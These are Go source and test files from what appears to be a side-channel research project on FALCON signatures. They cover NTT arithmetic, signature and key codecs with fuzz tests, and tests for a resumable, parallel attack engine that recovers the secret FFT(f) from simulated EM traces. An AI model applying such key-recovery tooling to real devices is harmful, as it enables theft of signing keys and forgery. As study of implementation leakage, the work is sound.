		if ModPow(g, (Q-1)/2) != 1 && ModPow(g, (Q-1)/3) != 1 {
			return g
		}
	}
}

// tables holds the per-size bit-reversed power tables of the primitive
// 2n-th root of unity ψ (negacyclic NTT needs ψ, not just the n-th root).
type tables struct {
	n         int
	psiRev    []uint32 // ψ^brev(i), i = 0..n-1
	psiInvRev []uint32 // ψ^{-brev(i)}
	nInv      uint32
}

var tablesCache sync.Map // int -> *tables

// tablesFor builds (or fetches) the tables for size n, a power of two with
// 2n | q-1 (n <= 2048).
func tablesFor(n int) *tables {
	if v, ok := tablesCache.Load(n); ok {
		return v.(*tables)
	}
	if n < 2 || n&(n-1) != 0 || (Q-1)%(2*n) != 0 {
		panic(fmt.Sprintf("ntt: unsupported size %d", n))
	}
	g := generator()
	psi := ModPow(g, uint32((Q-1)/(2*n)))
	psiInv := ModInv(psi)
	logn := bits.Len(uint(n)) - 1
	t := &tables{
		n:         n,
		psiRev:    make([]uint32, n),
		psiInvRev: make([]uint32, n),
		nInv:      ModInv(uint32(n)),
	}
	p, pi := uint32(1), uint32(1)
	for i := 0; i < n; i++ {
		r := int(bits.Reverse32(uint32(i)) >> (32 - logn))
		t.psiRev[r] = p
		t.psiInvRev[r] = pi
		p = modMul(p, psi)
		pi = modMul(pi, psiInv)
	}
	tablesCache.Store(n, t)
	return t
}

// NTT transforms a in place to the NTT domain (coefficients in [0, q)).
func NTT(a []uint16) {
	tb := tablesFor(len(a))
	n := len(a)
	t := n
	for m := 1; m < n; m <<= 1 {
		t >>= 1
		for i := 0; i < m; i++ {
			j1 := 2 * i * t
			s := tb.psiRev[m+i]
			for j := j1; j < j1+t; j++ {
				u := uint32(a[j])
				v := modMul(uint32(a[j+t]), s)
				a[j] = uint16(modAdd(u, v))
				a[j+t] = uint16(modSub(u, v))
			}
		}
	}
}

// InvNTT transforms a in place back from the NTT domain.
func InvNTT(a []uint16) {
	tb := tablesFor(len(a))
	n := len(a)
	t := 1
	for m := n; m > 1; m >>= 1 {
		j1 := 0
		h := m >> 1
		for i := 0; i < h; i++ {
			j2 := j1 + t
			s := tb.psiInvRev[h+i]
			for j := j1; j < j2; j++ {
				u := uint32(a[j])
				v := uint32(a[j+t])
				a[j] = uint16(modAdd(u, v))
				a[j+t] = uint16(modMul(modSub(u, v), s))
			}
			j1 += 2 * t
		}
		t <<= 1
	}
	for i := range a {
		a[i] = uint16(modMul(uint32(a[i]), tb.nInv))
	}
}

// MulModQ returns the negacyclic product a*b mod (x^n+1, q) of two
// polynomials with coefficients in [0, q).
func MulModQ(a, b []uint16) []uint16 {
	ta := append([]uint16(nil), a...)
	tbv := append([]uint16(nil), b...)
	NTT(ta)
	NTT(tbv)
	for i := range ta {
		ta[i] = uint16(modMul(uint32(ta[i]), uint32(tbv[i])))
	}
	InvNTT(ta)
	return ta
}

// Invertible reports whether a is invertible in Z_q[x]/(x^n+1), i.e. all of
// its NTT coordinates are nonzero.
func Invertible(a []uint16) bool {
	t := append([]uint16(nil), a...)
	NTT(t)
	for _, v := range t {
		if v == 0 {
			return false
		}
	}
	return true
}

// InvModQ returns a^{-1} in Z_q[x]/(x^n+1). The second return value is
// false if a is not invertible.
func InvModQ(a []uint16) ([]uint16, bool) {
	t := append([]uint16(nil), a...)
	NTT(t)
	for i, v := range t {
		if v == 0 {
			return nil, false
		}
		t[i] = uint16(ModInv(uint32(v)))
	}
	InvNTT(t)
	return t, true
}

// FromSigned reduces a small-coefficient signed polynomial into [0, q).
func FromSigned(f []int16) []uint16 {
	out := make([]uint16, len(f))
	for i, v := range f {
		w := int32(v) % Q
		if w < 0 {
			w += Q
		}
		out[i] = uint16(w)
	}
	return out
}

// Center maps a coefficient in [0, q) to its centered representative in
// (-q/2, q/2].
func Center(v uint16) int32 {
	w := int32(v)
	if w > Q/2 {
		w -= Q
	}
	return w
}

// SubModQ returns a-b coefficient-wise mod q.
func SubModQ(a, b []uint16) []uint16 {
	out := make([]uint16, len(a))
	for i := range a {
		out[i] = uint16(modSub(uint32(a[i]), uint32(b[i])))
	}
	return out
}

// AddModQ returns a+b coefficient-wise mod q.
func AddModQ(a, b []uint16) []uint16 {
	out := make([]uint16, len(a))
	for i := range a {
		out[i] = uint16(modAdd(uint32(a[i]), uint32(b[i])))
	}
	return out
}

// ButterflySteps exposes the intermediate values of one forward NTT
// butterfly (u, v·s computation and the two outputs) for the §V.C leakage
// comparison experiment: the modular product, the reduced sum and the
// reduced difference, in execution order.
func ButterflySteps(u, v, s uint16) [3]uint32 {
	p := modMul(uint32(v), uint32(s))
	return [3]uint32{p, modAdd(uint32(u), p), modSub(uint32(u), p)}
}
