// Package codec implements FALCON's serialization formats: the SHAKE256
// hash-to-point of salted messages, the Golomb–Rice compression of
// signature vectors, and the fixed-width public/secret key encodings.
package codec

import (
	"crypto/sha3"
	"errors"
	"fmt"

	"falcondown/internal/ntt"
)

// Q is FALCON's modulus.
const Q = ntt.Q

// SaltLen is the byte length of the signature salt r (320 bits).
const SaltLen = 40

// ErrEncode reports a signature too long for the fixed field.
var ErrEncode = errors.New("codec: signature does not fit (⊥)")

// ErrDecode reports a malformed encoded object.
var ErrDecode = errors.New("codec: malformed encoding")

// HashToPoint derives the polynomial c ∈ Z_q[x]/(x^n+1) from salt‖message
// with SHAKE256, by rejection sampling 16-bit big-endian chunks below
// ⌊2^16/q⌋·q = 61445.
func HashToPoint(salt, msg []byte, n int) []uint16 {
	h := sha3.NewSHAKE256()
	h.Write(salt)
	h.Write(msg)
	c := make([]uint16, n)
	var buf [2]byte
	for i := 0; i < n; {
		h.Read(buf[:])
		v := uint32(buf[0])<<8 | uint32(buf[1])
		if v < 61445 {
			c[i] = uint16(v % Q)
			i++
		}
	}
	return c
}

// Compress encodes the signature polynomial s (centered coefficients) into
// exactly byteLen bytes: per coefficient one sign bit, the 7 low magnitude
// bits, and the remaining magnitude in unary terminated by a 1. Returns
// ErrEncode when the stream exceeds byteLen (the ⊥ case of Algorithm 2,
// which makes the signer retry with fresh randomness).
func Compress(s []int16, byteLen int) ([]byte, error) {
	bw := newBitWriter(byteLen)
	for _, x := range s {
		mag := int(x)
		sign := 0
		if mag < 0 {
			sign = 1
			mag = -mag
		}
		if mag > 2047 {
			return nil, ErrEncode
		}
		if !bw.put(uint(sign), 1) ||
			!bw.put(uint(mag&0x7F), 7) ||
			!bw.unary(mag>>7) {
			return nil, ErrEncode
		}
	}
	return bw.bytes(), nil
}

// Decompress decodes n coefficients from buf, enforcing canonicality: no
// "-0" encoding and zero padding after the last coefficient.
func Decompress(buf []byte, n int) ([]int16, error) {
	br := bitReader{buf: buf}
	s := make([]int16, n)
	for i := 0; i < n; i++ {
		sign, ok := br.get(1)
		if !ok {
			return nil, ErrDecode
		}
		low, ok := br.get(7)
		if !ok {
			return nil, ErrDecode
		}
		high := 0
		for {
			b, ok := br.get(1)
			if !ok {
				return nil, ErrDecode
			}
			if b == 1 {
				break
			}
			high++
			if high > 15 {
				return nil, ErrDecode
			}
		}
		mag := high<<7 | int(low)
		if mag == 0 && sign == 1 {
			return nil, fmt.Errorf("%w: minus zero", ErrDecode)
		}
		if sign == 1 {
			s[i] = int16(-mag)
		} else {
			s[i] = int16(mag)
		}
	}
	// Remaining bits must all be zero padding.
	for {
		b, ok := br.get(1)
		if !ok {
			break
		}
		if b != 0 {
			return nil, fmt.Errorf("%w: nonzero padding", ErrDecode)
		}
	}
	return s, nil
}

// EncodePublicKey packs h (coefficients in [0, q)) with 14 bits per
// coefficient after a header byte 0x00|logn.
func EncodePublicKey(h []uint16, logn int) []byte {
	bw := newBitWriter(1 + (14*len(h)+7)/8)
	bw.buf[0] = byte(logn)
	bw.pos = 8
	for _, v := range h {
		bw.put(uint(v), 14)
	}
	return bw.bytes()
}

// DecodePublicKey reverses EncodePublicKey, validating the header and the
// coefficient range.
func DecodePublicKey(b []byte, logn int) ([]uint16, error) {
	n := 1 << logn
	if len(b) != 1+(14*n+7)/8 {
		return nil, fmt.Errorf("%w: public key length %d", ErrDecode, len(b))
	}
	if b[0] != byte(logn) {
		return nil, fmt.Errorf("%w: public key header %#x", ErrDecode, b[0])
	}
	br := bitReader{buf: b, pos: 8}
	h := make([]uint16, n)
	for i := range h {
		v, ok := br.get(14)
		if !ok {
			return nil, ErrDecode
		}
		if v >= Q {
			return nil, fmt.Errorf("%w: coefficient %d out of range", ErrDecode, v)
		}
		h[i] = uint16(v)
	}
	return h, nil
}

// EncodeSecretKey packs (f, g, F) with 8 bits per signed coefficient after
// a header byte 0x50|logn (G is recomputed from the NTRU equation).
func EncodeSecretKey(f, g, F []int16, logn int) ([]byte, error) {
	n := 1 << logn
	out := make([]byte, 1+3*n)
	out[0] = 0x50 | byte(logn)
	for i, p := range [][]int16{f, g, F} {
		for j, v := range p {
			if v < -127 || v > 127 {
				return nil, fmt.Errorf("%w: coefficient %d outside ±127", ErrEncode, v)
			}
			out[1+i*n+j] = byte(int8(v))
		}
	}
	return out, nil
}

// DecodeSecretKey reverses EncodeSecretKey.
func DecodeSecretKey(b []byte, logn int) (f, g, F []int16, err error) {
	n := 1 << logn
	if len(b) != 1+3*n {
		return nil, nil, nil, fmt.Errorf("%w: secret key length %d", ErrDecode, len(b))
	}
	if b[0] != 0x50|byte(logn) {
		return nil, nil, nil, fmt.Errorf("%w: secret key header %#x", ErrDecode, b[0])
	}
	dec := func(off int) []int16 {
		p := make([]int16, n)
		for i := range p {
			p[i] = int16(int8(b[1+off*n+i]))
		}
		return p
	}
	return dec(0), dec(1), dec(2), nil
}

// bitWriter assembles a most-significant-bit-first stream of fixed size.
type bitWriter struct {
	buf []byte
	pos int // bit position
}

func newBitWriter(byteLen int) *bitWriter {
	return &bitWriter{buf: make([]byte, byteLen)}
}

// put appends the low `width` bits of v, MSB first. It reports false when
// the buffer would overflow.
func (w *bitWriter) put(v uint, width int) bool {
	if w.pos+width > 8*len(w.buf) {
		return false
	}
	for i := width - 1; i >= 0; i-- {
		if v>>uint(i)&1 == 1 {
			w.buf[w.pos/8] |= 1 << uint(7-w.pos%8)
		}
		w.pos++
	}
	return true
}

// unary appends k zeros followed by a one.
func (w *bitWriter) unary(k int) bool {
	if w.pos+k+1 > 8*len(w.buf) {
		return false
	}
	w.pos += k
	w.buf[w.pos/8] |= 1 << uint(7-w.pos%8)
	w.pos++
	return true
}

func (w *bitWriter) bytes() []byte { return w.buf }

// bitReader consumes a MSB-first stream.
type bitReader struct {
	buf []byte
	pos int
}

func (r *bitReader) get(width int) (uint, bool) {
	if r.pos+width > 8*len(r.buf) {
		return 0, false
	}
	var v uint
	for i := 0; i < width; i++ {
		v = v<<1 | uint(r.buf[r.pos/8]>>uint(7-r.pos%8)&1)
		r.pos++
	}
	return v, true
}
