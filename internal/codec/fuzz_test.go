package codec

import (
	"bytes"
	"testing"
)

// FuzzSignatureCodec drives the Golomb–Rice signature codec with
// adversarial byte streams. Two properties must hold for every input:
//
//  1. Canonicality: any stream Decompress accepts must re-Compress to the
//     identical bytes at the same length. A second valid encoding of the
//     same signature would break signature malleability assumptions (an
//     attacker could re-randomize valid signatures without the key).
//  2. Decoded coefficients stay in the encodable range, so an accepted
//     stream can never round-trip through a rejecting Compress.
//
// Malformed streams (truncated, minus-zero, nonzero padding, runaway
// unary runs) must be rejected with an error, never a panic or an
// out-of-range coefficient.
func FuzzSignatureCodec(f *testing.F) {
	// Seed with valid encodings across the supported degrees…
	for _, n := range []int{8, 16, 64} {
		s := make([]int16, n)
		for i := range s {
			v := int16((i * 37) % 300)
			if i%2 == 1 {
				v = -v
			}
			s[i] = v
		}
		buf, err := Compress(s, 2*n)
		if err != nil {
			f.Fatal(err)
		}
		f.Add(buf, uint8(n))
	}
	// …one maximal-magnitude coefficient (longest unary run)…
	big, err := Compress([]int16{2047, -2047}, 8)
	if err != nil {
		f.Fatal(err)
	}
	f.Add(big, uint8(2))
	// …and malformed material: truncation, minus zero, dirty padding.
	f.Add([]byte{0x80}, uint8(1))
	f.Add([]byte{0x00, 0x80, 0xFF}, uint8(1))
	f.Add([]byte{}, uint8(4))

	f.Fuzz(func(t *testing.T, data []byte, nRaw uint8) {
		n := int(nRaw)%64 + 1
		s, err := Decompress(data, n)
		if err != nil {
			return // rejection is fine; panics and hangs are what fuzzing hunts
		}
		if len(s) != n {
			t.Fatalf("accepted stream decoded to %d coefficients, want %d", len(s), n)
		}
		for i, v := range s {
			if v > 2047 || v < -2047 {
				t.Fatalf("coefficient %d out of encodable range: %d", i, v)
			}
		}
		re, err := Compress(s, len(data))
		if err != nil {
			t.Fatalf("accepted stream of %d bytes does not re-encode at that length: %v", len(data), err)
		}
		if !bytes.Equal(re, data) {
			t.Fatalf("codec is not canonical: accepted % x, re-encoded % x", data, re)
		}
	})
}
