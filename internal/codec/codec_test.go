package codec

import (
	"bytes"
	"errors"
	"math/rand"
	"testing"
	"testing/quick"
)

func TestHashToPointRangeAndDeterminism(t *testing.T) {
	salt := bytes.Repeat([]byte{7}, SaltLen)
	c1 := HashToPoint(salt, []byte("message"), 512)
	c2 := HashToPoint(salt, []byte("message"), 512)
	if len(c1) != 512 {
		t.Fatalf("length %d", len(c1))
	}
	for i := range c1 {
		if c1[i] >= Q {
			t.Fatalf("coefficient %d out of range", c1[i])
		}
		if c1[i] != c2[i] {
			t.Fatal("hash not deterministic")
		}
	}
	c3 := HashToPoint(salt, []byte("messagf"), 512)
	diff := 0
	for i := range c1 {
		if c1[i] != c3[i] {
			diff++
		}
	}
	if diff < 400 {
		t.Fatalf("only %d/512 coefficients changed for a different message", diff)
	}
	c4 := HashToPoint(bytes.Repeat([]byte{8}, SaltLen), []byte("message"), 512)
	diff = 0
	for i := range c1 {
		if c1[i] != c4[i] {
			diff++
		}
	}
	if diff < 400 {
		t.Fatalf("only %d/512 coefficients changed for a different salt", diff)
	}
}

func TestHashToPointUniformity(t *testing.T) {
	// Mean of uniform [0, q) is (q-1)/2 ≈ 6144.
	c := HashToPoint([]byte("salt"), []byte("uniformity"), 1024)
	var sum float64
	for _, v := range c {
		sum += float64(v)
	}
	mean := sum / float64(len(c))
	if mean < 5800 || mean > 6500 {
		t.Fatalf("mean %v far from q/2", mean)
	}
}

func TestCompressRoundTrip(t *testing.T) {
	r := rand.New(rand.NewSource(1))
	for trial := 0; trial < 200; trial++ {
		n := 64
		s := make([]int16, n)
		for i := range s {
			s[i] = int16(r.Intn(601) - 300) // typical signature magnitudes
		}
		buf, err := Compress(s, 122-SaltLen-1)
		if err != nil {
			continue // occasionally too large; that's the ⊥ path
		}
		got, err := Decompress(buf, n)
		if err != nil {
			t.Fatalf("decompress: %v", err)
		}
		for i := range s {
			if got[i] != s[i] {
				t.Fatalf("trial %d coeff %d: %d != %d", trial, i, got[i], s[i])
			}
		}
	}
}

func TestCompressRejectsOversized(t *testing.T) {
	s := make([]int16, 64)
	for i := range s {
		s[i] = 2000 // large magnitudes blow the unary budget
	}
	if _, err := Compress(s, 81); !errors.Is(err, ErrEncode) {
		t.Fatalf("expected ErrEncode, got %v", err)
	}
	s[0] = 3000 // beyond the representable 2047
	if _, err := Compress(s, 10000); !errors.Is(err, ErrEncode) {
		t.Fatalf("expected ErrEncode for magnitude > 2047, got %v", err)
	}
}

func TestDecompressRejectsMinusZero(t *testing.T) {
	// sign=1, low7=0, unary terminator immediately: the non-canonical −0.
	buf := make([]byte, 4)
	buf[0] = 0x80 | 0x01 // 1 0000000 1 ... => -0
	if _, err := Decompress(buf, 1); err == nil {
		t.Fatal("minus zero accepted")
	}
}

func TestDecompressRejectsNonzeroPadding(t *testing.T) {
	s := []int16{5, -3}
	buf, err := Compress(s, 8)
	if err != nil {
		t.Fatal(err)
	}
	buf[len(buf)-1] |= 1 // flip a padding bit
	if _, err := Decompress(buf, 2); err == nil {
		t.Fatal("nonzero padding accepted")
	}
}

func TestDecompressTruncated(t *testing.T) {
	s := []int16{100, -200, 300}
	buf, err := Compress(s, 16)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := Decompress(buf[:2], 3); err == nil {
		t.Fatal("truncated stream accepted")
	}
	if _, err := Decompress(nil, 1); err == nil {
		t.Fatal("empty stream accepted")
	}
}

func TestDecompressRunawayUnary(t *testing.T) {
	// A stream of zeros never terminates the unary part; must be rejected
	// by the high cap rather than looping to the end.
	buf := make([]byte, 300)
	if _, err := Decompress(buf, 1); err == nil {
		t.Fatal("runaway unary accepted")
	}
}

func TestQuickCompressRoundTrip(t *testing.T) {
	f := func(seed int64) bool {
		r := rand.New(rand.NewSource(seed))
		n := 16
		s := make([]int16, n)
		for i := range s {
			s[i] = int16(r.Intn(4095) - 2047)
		}
		buf, err := Compress(s, 200)
		if err != nil {
			return true // ⊥ is acceptable
		}
		got, err := Decompress(buf, n)
		if err != nil {
			return false
		}
		for i := range s {
			if got[i] != s[i] {
				return false
			}
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 500}); err != nil {
		t.Error(err)
	}
}

func TestPublicKeyCodec(t *testing.T) {
	r := rand.New(rand.NewSource(2))
	for _, logn := range []int{3, 6, 9} {
		n := 1 << logn
		h := make([]uint16, n)
		for i := range h {
			h[i] = uint16(r.Intn(Q))
		}
		enc := EncodePublicKey(h, logn)
		dec, err := DecodePublicKey(enc, logn)
		if err != nil {
			t.Fatalf("logn=%d: %v", logn, err)
		}
		for i := range h {
			if dec[i] != h[i] {
				t.Fatalf("logn=%d coeff %d mismatch", logn, i)
			}
		}
		// Corrupt header.
		enc[0] ^= 0xFF
		if _, err := DecodePublicKey(enc, logn); err == nil {
			t.Fatal("bad header accepted")
		}
		enc[0] ^= 0xFF
		// Wrong length.
		if _, err := DecodePublicKey(enc[:len(enc)-1], logn); err == nil {
			t.Fatal("short key accepted")
		}
	}
}

func TestPublicKeyCodecRejectsOutOfRange(t *testing.T) {
	h := make([]uint16, 8)
	h[3] = Q // out of range
	enc := EncodePublicKey(h, 3)
	if _, err := DecodePublicKey(enc, 3); err == nil {
		t.Fatal("coefficient q accepted")
	}
}

func TestSecretKeyCodec(t *testing.T) {
	r := rand.New(rand.NewSource(3))
	logn := 5
	n := 1 << logn
	mk := func() []int16 {
		p := make([]int16, n)
		for i := range p {
			p[i] = int16(r.Intn(255) - 127)
		}
		return p
	}
	f, g, F := mk(), mk(), mk()
	enc, err := EncodeSecretKey(f, g, F, logn)
	if err != nil {
		t.Fatal(err)
	}
	df, dg, dF, err := DecodeSecretKey(enc, logn)
	if err != nil {
		t.Fatal(err)
	}
	for i := 0; i < n; i++ {
		if df[i] != f[i] || dg[i] != g[i] || dF[i] != F[i] {
			t.Fatal("secret key mismatch")
		}
	}
	// Out-of-range coefficient.
	f[0] = 128
	if _, err := EncodeSecretKey(f, g, F, logn); err == nil {
		t.Fatal("coefficient 128 accepted")
	}
	// Bad header / length.
	enc[0] = 0
	if _, _, _, err := DecodeSecretKey(enc, logn); err == nil {
		t.Fatal("bad header accepted")
	}
	if _, _, _, err := DecodeSecretKey(enc[:5], logn); err == nil {
		t.Fatal("short secret key accepted")
	}
}

func TestBitWriterReader(t *testing.T) {
	w := newBitWriter(4)
	if !w.put(0b101, 3) || !w.put(0b0110, 4) || !w.unary(3) {
		t.Fatal("writes failed unexpectedly")
	}
	r := bitReader{buf: w.bytes()}
	if v, ok := r.get(3); !ok || v != 0b101 {
		t.Fatalf("read1 %v", v)
	}
	if v, ok := r.get(4); !ok || v != 0b0110 {
		t.Fatalf("read2 %v", v)
	}
	for i := 0; i < 3; i++ {
		if v, ok := r.get(1); !ok || v != 0 {
			t.Fatal("unary zeros")
		}
	}
	if v, ok := r.get(1); !ok || v != 1 {
		t.Fatal("unary terminator")
	}
	// Overflow.
	w2 := newBitWriter(1)
	if w2.put(0xFFFF, 16) {
		t.Fatal("overflow write accepted")
	}
	if w2.unary(9) {
		t.Fatal("overflow unary accepted")
	}
}
