package core

import (
	"errors"
	"os"
	"path/filepath"
	"sync/atomic"
	"testing"

	"falcondown/internal/tracestore"
)

// countingSource wraps a Source and counts how many corpus sweeps
// (Iterate calls) the attack performs — the currency a checkpoint is
// supposed to save.
type countingSource struct {
	inner  tracestore.Source
	sweeps atomic.Int64
}

func (s *countingSource) N() int     { return s.inner.N() }
func (s *countingSource) Count() int { return s.inner.Count() }
func (s *countingSource) Iterate() (tracestore.Iterator, error) {
	s.sweeps.Add(1)
	return s.inner.Iterate()
}

// checkpointFixture builds a small campaign, a counting source over it,
// and a sidecar store in a temp dir.
func checkpointFixture(t *testing.T) (*countingSource, *FileCheckpoint) {
	t.Helper()
	dev, _, _ := deviceFor(t, 8, 2.0, 14)
	obs := collect(t, dev, 400, 15)
	src := &countingSource{inner: tracestore.NewSliceSource(8, obs)}
	store := &FileCheckpoint{Path: filepath.Join(t.TempDir(), "attack.ckpt")}
	return src, store
}

func sameValueResults(t *testing.T, want, got []ValueResult) {
	t.Helper()
	if len(want) != len(got) {
		t.Fatalf("got %d values, want %d", len(got), len(want))
	}
	for v := range want {
		w, g := want[v], got[v]
		if w.Value != g.Value || w.SignCorr != g.SignCorr || w.ExpCorr != g.ExpCorr ||
			w.PruneCorr != g.PruneCorr || w.RunnerUpGap != g.RunnerUpGap ||
			w.Escalated != g.Escalated || w.Significant != g.Significant ||
			w.TracesUsed != g.TracesUsed {
			t.Fatalf("value %d differs: want %+v got %+v", v, w, g)
		}
	}
}

func TestCheckpointedAttackMatchesDirect(t *testing.T) {
	// Checkpointing must be pure bookkeeping: the attack with a sidecar
	// produces bit-identical results to the attack without one.
	src, store := checkpointFixture(t)

	directFFT, directVals, err := AttackFFTfFrom(src.inner, Config{})
	if err != nil {
		t.Fatal(err)
	}
	ckFFT, ckVals, err := AttackFFTfResumable(src.inner, Config{}, store)
	if err != nil {
		t.Fatal(err)
	}
	for k := range directFFT {
		if directFFT[k] != ckFFT[k] {
			t.Fatalf("coefficient %d differs between checkpointed and direct attack", k)
		}
	}
	sameValueResults(t, directVals, ckVals)

	// The sidecar records the final phase as complete.
	ck, err := store.Load()
	if err != nil {
		t.Fatal(err)
	}
	if ck == nil || ck.Stage != StageStragglers {
		t.Fatalf("sidecar after full run: %+v", ck)
	}
}

func TestResumeFromCompleteCheckpointSweepsNothing(t *testing.T) {
	// A rerun against a fully-complete checkpoint must answer from the
	// sidecar alone: zero corpus sweeps.
	src, store := checkpointFixture(t)
	wantFFT, wantVals, err := AttackFFTfResumable(src, Config{}, store)
	if err != nil {
		t.Fatal(err)
	}
	if src.sweeps.Load() == 0 {
		t.Fatal("fresh attack performed no sweeps; counting wrapper is broken")
	}

	src.sweeps.Store(0)
	gotFFT, gotVals, err := AttackFFTfResumable(src, Config{}, store)
	if err != nil {
		t.Fatal(err)
	}
	if n := src.sweeps.Load(); n != 0 {
		t.Fatalf("resume from a complete checkpoint swept the corpus %d time(s)", n)
	}
	for k := range wantFFT {
		if wantFFT[k] != gotFFT[k] {
			t.Fatalf("coefficient %d differs after resume", k)
		}
	}
	sameValueResults(t, wantVals, gotVals)
}

func TestResumeSkipsCompletedPhases(t *testing.T) {
	// A checkpoint truncated back to the mantissa phase must rerun only
	// the later phases: strictly fewer sweeps than a fresh run, same
	// results bit-for-bit.
	src, store := checkpointFixture(t)
	wantFFT, wantVals, err := AttackFFTfResumable(src, Config{}, store)
	if err != nil {
		t.Fatal(err)
	}
	fresh := src.sweeps.Load()

	// Simulate a run killed between the mantissa and escalation phases:
	// rewind the sidecar to "mantissa complete".
	ck, err := store.Load()
	if err != nil {
		t.Fatal(err)
	}
	ck.Stage = StageMantissa
	ck.Results = nil
	if err := store.Save(ck); err != nil {
		t.Fatal(err)
	}

	src.sweeps.Store(0)
	gotFFT, gotVals, err := AttackFFTfResumable(src, Config{}, store)
	if err != nil {
		t.Fatal(err)
	}
	resumed := src.sweeps.Load()
	if resumed == 0 {
		t.Fatal("resume from mantissa ran no sweeps; signs phase was skipped")
	}
	if resumed >= fresh {
		t.Fatalf("resume swept %d times, fresh run %d; completed phases were repeated", resumed, fresh)
	}
	for k := range wantFFT {
		if wantFFT[k] != gotFFT[k] {
			t.Fatalf("coefficient %d differs after resume", k)
		}
	}
	sameValueResults(t, wantVals, gotVals)

	// And the resumed run rewrote the sidecar to completion.
	ck, err = store.Load()
	if err != nil {
		t.Fatal(err)
	}
	if ck.Stage != StageStragglers {
		t.Fatalf("sidecar stage after resume: %q", ck.Stage)
	}
}

func TestCheckpointMismatchRejected(t *testing.T) {
	// A sidecar from a different campaign or configuration must refuse to
	// resume rather than silently blending state.
	src, store := checkpointFixture(t)
	if _, _, err := AttackFFTfResumable(src, Config{}, store); err != nil {
		t.Fatal(err)
	}
	good, err := store.Load()
	if err != nil {
		t.Fatal(err)
	}

	cases := []struct {
		name   string
		mutate func(ck *Checkpoint)
	}{
		{"wrong degree", func(ck *Checkpoint) { ck.N = 16 }},
		{"wrong trace count", func(ck *Checkpoint) { ck.Count++ }},
		{"wrong config", func(ck *Checkpoint) { ck.Config.TopK *= 2 }},
		{"future format", func(ck *Checkpoint) { ck.Format++ }},
		{"unknown stage", func(ck *Checkpoint) { ck.Stage = "warp" }},
		{"truncated mags", func(ck *Checkpoint) { ck.Mags = ck.Mags[:3] }},
		{"truncated results", func(ck *Checkpoint) { ck.Results = ck.Results[:3] }},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			ck := *good
			ck.Mags = append([]MagCheckpoint(nil), good.Mags...)
			ck.Results = append([]ValueCheckpoint(nil), good.Results...)
			tc.mutate(&ck)
			if err := store.Save(&ck); err != nil {
				t.Fatal(err)
			}
			_, _, err := AttackFFTfResumable(src, Config{}, store)
			if !errors.Is(err, ErrCheckpointMismatch) {
				t.Fatalf("got %v, want ErrCheckpointMismatch", err)
			}
		})
	}

	t.Run("unparseable sidecar", func(t *testing.T) {
		if err := os.WriteFile(store.Path, []byte("{not json"), 0o644); err != nil {
			t.Fatal(err)
		}
		_, _, err := AttackFFTfResumable(src, Config{}, store)
		if !errors.Is(err, ErrCheckpointMismatch) {
			t.Fatalf("got %v, want ErrCheckpointMismatch", err)
		}
	})
}

func TestFileCheckpointLifecycle(t *testing.T) {
	store := &FileCheckpoint{Path: filepath.Join(t.TempDir(), "a.ckpt")}
	// Missing sidecar means a fresh run, not an error.
	ck, err := store.Load()
	if err != nil || ck != nil {
		t.Fatalf("Load on missing sidecar: %v, %+v", err, ck)
	}
	// Remove of a missing sidecar is a no-op.
	if err := store.Remove(); err != nil {
		t.Fatal(err)
	}
	if err := store.Save(&Checkpoint{Format: checkpointFormat, Stage: StageExponents}); err != nil {
		t.Fatal(err)
	}
	if ck, err = store.Load(); err != nil || ck == nil || ck.Stage != StageExponents {
		t.Fatalf("round-trip: %v, %+v", err, ck)
	}
	if err := store.Remove(); err != nil {
		t.Fatal(err)
	}
	if ck, err = store.Load(); err != nil || ck != nil {
		t.Fatalf("Load after Remove: %v, %+v", err, ck)
	}
}
