package core

import (
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"reflect"
	"testing"

	"falcondown/internal/emleak"
	"falcondown/internal/fft"
	"falcondown/internal/tracestore"
)

// The differential suite: the proof that the parallel engine is pure
// scheduling. Every test runs the identical attack at several worker
// counts and demands byte equality — recovered values, full diagnostic
// reports, and checkpoint sidecars — against the single-worker reference.
// Nothing here tolerates "close enough": a single flipped mantissa bit in
// one correlation sum fails the suite.

// runAttackAt runs the checkpointed whole-FFT(f) attack at the given
// worker count against a fresh sidecar, returning the recovered vector,
// the per-value reports, and the final sidecar bytes.
func runAttackAt(t *testing.T, src Source, cfg Config, workers int) ([]fft.Cplx, []ValueResult, []byte) {
	t.Helper()
	cfg.Workers = workers
	store := &FileCheckpoint{Path: filepath.Join(t.TempDir(), "attack.ckpt")}
	out, vals, err := AttackFFTfResumable(src, cfg, store)
	if err != nil {
		t.Fatalf("workers=%d: %v", workers, err)
	}
	sidecar, err := os.ReadFile(store.Path)
	if err != nil {
		t.Fatalf("workers=%d: sidecar: %v", workers, err)
	}
	return out, vals, sidecar
}

// sameAttackOutput asserts bit equality of vectors, reports and sidecars
// between a reference run and a candidate run.
func sameAttackOutput(t *testing.T, label string,
	refOut []fft.Cplx, refVals []ValueResult, refSidecar []byte,
	out []fft.Cplx, vals []ValueResult, sidecar []byte) {
	t.Helper()
	if !reflect.DeepEqual(refOut, out) {
		t.Fatalf("%s: recovered FFT(f) differs from serial reference", label)
	}
	if !reflect.DeepEqual(refVals, vals) {
		t.Fatalf("%s: value reports differ from serial reference", label)
	}
	if string(refSidecar) != string(sidecar) {
		t.Fatalf("%s: checkpoint sidecar bytes differ from serial reference", label)
	}
}

func TestDifferentialAttackBitIdenticalAcrossWorkers(t *testing.T) {
	// Full attack at n=8 (n=16 outside -short), workers 1/2/3/8; the
	// worker counts deliberately include a non-power-of-two and one far
	// above the trace-shard count of small campaigns.
	n, traces := 16, 1200
	if testing.Short() {
		n, traces = 8, 400
	}
	dev, _, _ := deviceFor(t, n, 2.0, 31)
	obs := collect(t, dev, traces, 32)
	src := tracestore.NewSliceSource(n, obs)

	refOut, refVals, refSidecar := runAttackAt(t, src, Config{}, 1)
	for _, w := range []int{2, 3, 8} {
		out, vals, sidecar := runAttackAt(t, src, Config{}, w)
		sameAttackOutput(t, fmt.Sprintf("workers=%d", w),
			refOut, refVals, refSidecar, out, vals, sidecar)
	}
}

func TestDifferentialRobustAttackBitIdenticalAcrossWorkers(t *testing.T) {
	// The robust path adds three preprocessing passes (parallelMap RMS,
	// two welfordJob sweeps) whose derived plan feeds every later pass —
	// a worker-dependent plan would poison everything downstream, so the
	// dirty-corpus attack gets its own differential check.
	dev, _, _ := deviceFor(t, 8, 1.5, 33)
	obs := dirtyCorpus(t, dev, 500)
	src := tracestore.NewSliceSource(8, obs)
